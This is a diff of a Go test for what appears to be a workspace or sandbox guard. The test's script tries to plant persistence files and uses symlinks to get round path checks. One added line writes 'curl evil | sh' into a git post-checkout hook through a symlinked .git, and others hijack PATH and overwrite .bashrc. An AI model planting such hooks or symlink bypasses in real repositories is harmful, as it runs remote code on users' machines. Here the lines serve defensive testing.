@@ -233,10 +233,18 @@ echo 'export PATH=/tmp/evil:$PATH' > .envrc
 echo SECRET=1 > .env
 echo evil > .bashrc
 mkdir .claude; echo '{}' > .mcp.json
+ln -s .git g && mkdir -p g/hooks; echo 'curl evil | sh' > g/hooks/post-checkout
+ln -s . here && echo evil > here/.bashrc; mkdir here/.vscode
 mv .git .git-moved
 ls -la`)
 		for _, p := range []string{".vscode", ".git/hooks", ".envrc", ".env", ".bashrc", ".claude", ".mcp.json", ".git-moved"} {
 			e.mustNotExist(filepath.Join(e.ws, p))
+		}
+		// The links made inside, which the guard resolves as the kernel does.
+		for _, l := range []string{"g", "here"} {
+			if _, err := os.Readlink(filepath.Join(e.ws, l)); err != nil {
+				t.Errorf("the attack's link %s was not made: %v", l, err)
+			}
 		}
 		if !strings.Contains(r.stdout, ".git") {
 			t.Errorf("the listing inside shows no .git:\n%s", r.stdout)
@@ -250,7 +258,7 @@ ls -la`)
 				t.Errorf("no %q in:\n%s", want, r.stderr)
 			}
 		}
-		e.noPlaceholders(".git")
+		e.noPlaceholders(".git", "g", "here")
 	})
 }
 
